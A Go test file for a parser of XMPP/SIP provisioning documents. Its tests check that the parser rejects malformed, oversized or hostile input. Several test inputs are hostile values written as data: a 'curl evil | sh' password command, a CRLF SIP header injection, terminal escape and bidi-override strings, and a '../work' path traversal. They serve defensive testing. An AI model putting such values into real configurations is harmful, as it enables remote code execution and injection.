package provision

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/cusax/cusax/pkg/protocol"
)

func TestParseValid(t *testing.T) {
	d, err := Parse([]byte(validJSON))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	if d.Version != 1 || d.Provider != "Example Telecom" || d.Account != "work" || !d.related() {
		t.Errorf("top level: %+v", d)
	}
	if d.XMPP.JID != "alice@example.com" || len(d.XMPP.Mechanisms) != 2 || d.XMPP.password() != PasswordSame {
		t.Errorf("xmpp: %+v", d.XMPP)
	}
	if d.SIP.Proxy != "sip:sip.example.com:5061;transport=tls" || d.SIP.Username != "alice" {
		t.Errorf("sip: %+v", d.SIP)
	}
	if *d.Features.CallsOverXMPP || *d.Features.IMOverSIP || !*d.Features.CallInfo {
		t.Errorf("features: %+v", d.Features)
	}
	if len(d.CostGate.Allow) != 2 || d.CostGate.Region != "DE" {
		t.Errorf("cost_gate: %+v", d.CostGate)
	}
	if w := d.Warnings(); len(w) != 0 {
		t.Errorf("warnings for a TLS-only document: %q", w)
	}
}

func TestParseMinimal(t *testing.T) {
	for name, doc := range map[string]string{
		"xmpp only": `{"version":1,"xmpp":{"jid":"alice@example.com"}}`,
		"sip only":  `{"version":1,"sip":{"aor":"sips:alice@example.com"}}`,
		"both":      `{"version":1,"xmpp":{"jid":"a@example.com"},"sip":{"aor":"sip:a@example.com","password":"prompt"}}`,
	} {
		t.Run(name, func(t *testing.T) {
			d, err := Parse([]byte(doc))
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if want := d.XMPP != nil && d.SIP != nil; d.related() != want {
				t.Errorf("related = %v, want %v (RFC 7081 §3.4 default: both aspects)", d.related(), want)
			}
		})
	}
}

func TestParseRefuses(t *testing.T) {
	tests := []struct {
		name string
		doc  string
		want []string // substrings of the error, in order; the first field count when > 1
	}{
		// Whole-document problems.
		{"empty", ``, []string{"empty; want a JSON object"}},
		{"white space", " \n", []string{"empty"}},
		{"array", `[1]`, []string{"must be a JSON object, not an array"}},
		{"string", `"x"`, []string{"must be a JSON object, not a string"}},
		{"truncated", validJSON[:200], []string{"ends in the middle of a value"}},
		{"syntax", "{\n  \"version\": 1,\n  \"xmpp\": {\"jid\" \"a@b\"}\n}", []string{"malformed JSON at line 3, column 18"}},
		{"trailing object", validJSON + "\n{}", []string{"trailing data after the JSON document", "exactly one JSON object"}},
		{"trailing garbage", validJSON + "x", []string{"trailing data after the JSON document at line 23, column 2"}},
		{"bad utf-8", `{"version":1,"provider":"` + "\xff" + `"}`, []string{"not valid UTF-8 (byte 25)"}},
		{"too deep", `{"version":1,"xmpp":{"jid":"a@b","mechanisms":[[[[[[[[[[]]]]]]]]]]}}`, []string{"nested more than 8 levels deep"}},
		{"version 2", edit(t, `"version": 1`, `"version": 2, "future": {}`),
			[]string{"version 2 is newer than this cusax understands (1); update cusax"}},

		// Field problems, each by JSON path.
		{"no version", strings.Replace(validJSON, `"version": 1,`, ``, 1), []string{"version: required; this cusax reads version 1"}},
		{"version 0", edit(t, `"version": 1`, `"version": 0`), []string{"version: must be 1 (got 0)"}},
		{"version string", edit(t, `"version": 1`, `"version": "1"`), []string{"version: must be an integer, not a string"}},
		{"version float", edit(t, `"version": 1`, `"version": 1.0`), []string{"version: must be an integer, not 1.0"}},
		{"no aspect", `{"version":1}`, []string{"sets up neither xmpp nor sip"}},
		{"null aspect", `{"version":1,"xmpp":null}`, []string{"2 bad fields", "xmpp: must not be null", "sets up neither"}},
		{"duplicate key", edit(t, `"aor": "sip:alice@example.com",`, `"aor": "sip:alice@example.com", "aor": "sip:mallory@evil.example",`),
			[]string{"sip.aor: appears twice in one object"}},
		{"duplicate top-level", edit(t, `"related": true,`, `"related": true, "related": false,`), []string{"related: appears twice"}},
		{"unknown key", edit(t, `"min_tls"`, `"colour": "blue", "min_tls"`), []string{"colour: unknown field (known here: version, provider"}},
		{"misspelt key", edit(t, `"direct_tls"`, `"direct-tls"`), []string{`xmpp.direct-tls: unknown field (did you mean "direct_tls"?)`}},
		{"hostile key", edit(t, `"min_tls"`, `"\u001b[31m": 1, "min_tls"`), []string{`"\x1b[31m": unknown field`}},
		{"wrong type", edit(t, `"direct_tls": false`, `"direct_tls": "no"`), []string{"xmpp.direct_tls: must be true or false, not a string"}},
		{"wrong element type", edit(t, `"SCRAM-SHA-256"]`, `7]`), []string{"xmpp.mechanisms[1]: must be a string, not a number"}},

		// What a document may not do.
		{"literal password", edit(t, `"password": "same"
  },
  "sip"`, `"password": "hunter2"
  },
  "sip"`), []string{`xmpp.password: must be "same" or "prompt"; a provisioning document must not carry a password`}},
		{"secret key", edit(t, `"username": "alice",`, `"username": "alice", "secret": "s3cr3t",`), []string{"sip.secret: unknown field: a provisioning document must not carry passwords or tokens"}},
		{"token key", edit(t, `"min_tls"`, `"access_token": "abc", "min_tls"`), []string{"access_token: unknown field: a provisioning document must not carry"}},
		{"password in aor", edit(t, `"aor": "sip:alice@example.com"`, `"aor": "sip:alice:hunter2@example.com"`), []string{"sip.aor: must not contain a password"}},
		{"allow_plaintext", edit(t, `"direct_tls": false`, `"allow_plaintext": true`), []string{"xmpp.allow_plaintext: unknown field: a provisioning document cannot allow plaintext authentication (RFC 7081 §7)"}},
		{"ca", edit(t, `"min_tls"`, `"ca_pem": "-----BEGIN CERTIFICATE-----", "min_tls"`), []string{"ca_pem: unknown field: a provisioning document cannot add trust anchors"}},
		{"trust anchors", edit(t, `"min_tls"`, `"trust_anchors": [], "min_tls"`), []string{"trust_anchors: unknown field: a provisioning document cannot add trust anchors"}},
		{"backend", edit(t, `"username": "alice",`, `"backend": "evil",`), []string{"sip.backend: unknown field: backend is the user's own setting"}},
		{"password_command", edit(t, `"direct_tls": false`, `"password_command": "curl evil | sh"`), []string{"xmpp.password_command: unknown field: password_command is the user's own setting"}},
		{"cost gate tel too broad", edit(t, `"tel:+4930*"`, `"tel:+4*"`), []string{`cost_gate.allow[1]: "tel:+4*": too broad for a provider`}},
		{"cost gate everything", edit(t, `"tel:+4930*"`, `"tel:*"`), []string{`cost_gate.allow[1]: "tel:*": too broad`}},
		{"cost gate any host", edit(t, `"sip:*@example.com"`, `"sip:*@*"`), []string{`cost_gate.allow[0]: "sip:*@*": too broad for a provider: the host`}},

		// Field values, through config validation.
		{"bad transport", edit(t, `transport=tls`, `transport=sctp`),
			[]string{`sip.proxy: "sip:sip.example.com:5061;transport=sctp": transport must be udp, tcp or tls`}},
		{"sips over udp", edit(t, `"sip:sip.example.com:5061;transport=tls"`, `"sips:sip.example.com;transport=udp"`), []string{"sip.proxy:", "transport=udp cannot carry a sips: URI"}},
		{"proxy with user", edit(t, `"sip:sip.example.com:5061;transport=tls"`, `"sip:bob@sip.example.com;transport=tls"`), []string{"sip.proxy:", "an outbound proxy URI has no user part"}},
		{"proxy not sip", edit(t, `"sip:sip.example.com:5061;transport=tls"`, `"https://sip.example.com"`), []string{"sip.proxy:", "must be a sip: or sips: URI"}},
		{"jid no localpart", edit(t, `"jid": "alice@example.com"`, `"jid": "example.com"`), []string{`xmpp.jid: "example.com": must have a localpart`}},
		{"empty jid", edit(t, `"jid": "alice@example.com"`, `"jid": ""`), []string{"xmpp.jid:", "must not be empty"}},
		{"server no port", edit(t, `"xmpp.example.com:5222"`, `"xmpp.example.com"`), []string{"xmpp.server:", "must be host:port"}},
		{"mechanism", edit(t, `"SCRAM-SHA-256"]`, `"scram"]`), []string{"xmpp.mechanisms[1]:", "SASL mechanism name"}},
		{"duplicate mechanism", edit(t, `"SCRAM-SHA-256"]`, `"SCRAM-SHA-256-PLUS"]`), []string{"xmpp.mechanisms:", "twice"}},
		{"aor tel", edit(t, `"aor": "sip:alice@example.com"`, `"aor": "tel:+4930123"`), []string{"sip.aor:", "must be a sip: or sips: URI"}},
		{"control char", edit(t, `"username": "alice"`, `"username": "alice\r\nVia: evil"`), []string{"sip.username: must not contain control characters"}},
		{"bidi provider", edit(t, `"Example Telecom"`, `"Example \u202eTelecom"`), []string{"provider: must not contain bidirectional override"}},
		{"blank provider", edit(t, `"Example Telecom"`, `"  "`), []string{"provider: must not be blank"}},
		{"account name", edit(t, `"account": "work"`, `"account": "../work"`), []string{`account: "../work": must be 1 to 64 characters`}},
		{"related one aspect", `{"version":1,"related":true,"xmpp":{"jid":"a@example.com"}}`, []string{"related: needs both an xmpp and a sip aspect (RFC 7081 §3.4)"}},
		{"region", edit(t, `"region": "DE"`, `"region": "Germany"`), []string{`cost_gate.region: "Germany": "Germany" is not an ISO 3166-1`}},
		{"pattern scheme", edit(t, `"tel:+4930*"`, `"+4930*"`), []string{"cost_gate.allow[1]:", "must start with sip:, sips: or tel:"}},
		{"min_tls", edit(t, `"min_tls": "1.2"`, `"min_tls": "1.1"`), []string{`min_tls: "1.1": must be "1.2" or "1.3"`}},
		{"refresh syntax", edit(t, `"24h"`, `"1 day"`), []string{`refresh_after: "1 day": not a duration`}},
		{"refresh too often", edit(t, `"24h"`, `"30s"`), []string{`refresh_after: "30s": must be between 1h0m0s and 8760h`}},

		{"long string", edit(t, `"username": "alice"`, `"username": "`+strings.Repeat("a", 3000)+`"`), []string{"sip.username: is 3,000 bytes long; the limit is 2,048"}},
		{"long list", edit(t, `"tel:+4930*"`, `"tel:+4930*"`+strings.Repeat(`, "tel:+4930*"`, 100)), []string{"cost_gate.allow: has more than 100 entries"}},
		{"several at once", `{"version":1,"x":[],"xmpp":{"jid":""},"sip":{"aor":"sip:a@example.com","proxy":"sip:h;transport=sctp"}}`,
			[]string{"3 bad fields", "x: unknown field", "xmpp.jid", "sip.proxy"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, err := Parse([]byte(tt.doc))
			if err == nil {
				t.Fatalf("Parse accepted it: %+v", d)
			}
			if !errors.Is(err, ErrBadDocument) || !errors.Is(err, protocol.ErrProtocol) {
				t.Errorf("error does not wrap ErrBadDocument and protocol.ErrProtocol: %v", err)
			}
			var de *DocumentError
			if !errors.As(err, &de) || len(de.Fields) == 0 {
				t.Fatalf("not a *DocumentError with fields: %T %v", err, err)
			}
			msg := err.Error()
			rest := msg
			for _, w := range tt.want {
				i := strings.Index(rest, w)
				if i < 0 {
					t.Fatalf("error does not contain %q (in order):\n%s", w, msg)
				}
				rest = rest[i+len(w):]
			}
			if strings.Contains(tt.want[0], "bad fields") == (len(de.Fields) == 1) {
				t.Errorf("%d fields reported:\n%s", len(de.Fields), msg)
			}
			for _, secret := range []string{"hunter2", "s3cr3t", "curl evil"} {
				if strings.Contains(msg, secret) {
					t.Errorf("error repeats a secret-looking value %q:\n%s", secret, msg)
				}
			}
			if strings.ContainsAny(msg, "\r\n\x1b\u202e") {
				t.Errorf("error carries a control character: %q", msg)
			}
		})
	}
}

func TestParseSizeLimit(t *testing.T) {
	big := edit(t, `"Example Telecom"`, `"`+strings.Repeat("x", 70123-len(validJSON)+len(`"Example Telecom"`)-2)+`"`)
	if len(big) != 70123 {
		t.Fatalf("test document is %d bytes", len(big))
	}
	_, err := Parse([]byte(big))
	if want := "document is 70,123 bytes; the limit is 65,536"; err == nil || !strings.Contains(err.Error(), want) {
		t.Fatalf("err = %v, want %q", err, want)
	}
	// Exactly at the limit is fine as far as size goes.
	atLimit := validJSON + strings.Repeat(" ", MaxDocumentSize-len(validJSON))
	if _, err := Parse([]byte(atLimit)); err != nil {
		t.Errorf("document of exactly MaxDocumentSize bytes: %v", err)
	}
}

func TestDocumentErrorShowsTen(t *testing.T) {
	var keys []string
	for i := range 25 {
		keys = append(keys, fmt.Sprintf(`"k%d": 1`, i))
	}
	_, err := Parse([]byte(`{"version": 1, "xmpp": {"jid": "a@example.com"}, ` + strings.Join(keys, ", ") + `}`))
	var de *DocumentError
	if !errors.As(err, &de) || len(de.Fields) != 25 {
		t.Fatalf("err = %v", err)
	}
	if msg := err.Error(); !strings.HasPrefix(msg, "provisioning document: 25 bad fields: k0: unknown field") || !strings.HasSuffix(msg, "; and 15 more") {
		t.Errorf("message: %s", msg)
	}
}

func TestDocumentErrorFormat(t *testing.T) {
	e := &DocumentError{Source: "https://p.example/a.json", Fields: []FieldError{{"sip.proxy", "bad"}, {"xmpp.jid", "worse"}}}
	if got, want := e.Error(), "provisioning document https://p.example/a.json: 2 bad fields: sip.proxy: bad; xmpp.jid: worse"; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	e.Fields = e.Fields[:1]
	if got, want := e.Error(), "provisioning document https://p.example/a.json: sip.proxy: bad"; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

func TestWarnings(t *testing.T) {
	tests := []struct {
		name, old, new string
		want           []string
	}{
		{"udp proxy", "transport=tls", "transport=udp", []string{"sip.proxy: transport=udp: SIP signalling and digest authentication are not encrypted while XMPP uses TLS (RFC 7081 §7"}},
		{"tcp proxy", "transport=tls", "transport=TCP", []string{"sip.proxy: transport=tcp"}},
		{"no transport", ";transport=tls", "", []string{"sip.proxy: sip: without transport=tls"}},
		{"sips", `"sip:sip.example.com:5061;transport=tls"`, `"sips:sip.example.com"`, nil},
		{"sips over tcp is tls", `"sip:sip.example.com:5061;transport=tls"`, `"sips:sip.example.com;transport=tcp"`, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, err := Parse([]byte(edit(t, tt.old, tt.new)))
			if err != nil {
				t.Fatal(err)
			}
			got := d.Warnings()
			if len(got) != len(tt.want) {
				t.Fatalf("warnings = %q, want %d", got, len(tt.want))
			}
			for i := range got {
				if !strings.HasPrefix(got[i], tt.want[i]) {
					t.Errorf("warning %q does not start with %q", got[i], tt.want[i])
				}
			}
		})
	}
	d, err := Parse([]byte(`{"version":1,"xmpp":{"jid":"a@example.com"},"related":false,"features":{"im_over_sip":true,"call_info":true}}`))
	if err != nil {
		t.Fatal(err)
	}
	if got := d.Warnings(); len(got) != 2 || !strings.HasPrefix(got[0], "features.im_over_sip") || !strings.HasPrefix(got[1], "features.call_info") {
		t.Errorf("warnings = %q", got)
	}
}
